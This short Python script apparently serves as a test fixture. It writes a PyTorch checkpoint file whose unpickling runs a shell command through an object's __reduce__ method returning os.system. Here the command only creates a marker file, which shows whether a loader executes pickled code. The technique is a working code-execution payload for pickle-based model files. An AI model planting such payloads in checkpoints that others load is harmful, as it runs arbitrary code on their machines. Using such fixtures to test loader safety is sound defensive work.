"""Writes a torch.save file whose unpickling would run code (os.system) in Python's pickle.

usage: malicious_checkpoint.py OUT.pt MARKER_PATH
"""
import os
import sys

import torch


class RunsCode:
    def __reduce__(self):
        return (os.system, ("touch " + sys.argv[2],))


torch.save({"model": RunsCode(), "format": "ddp.cpp checkpoint", "version": 1}, sys.argv[1])
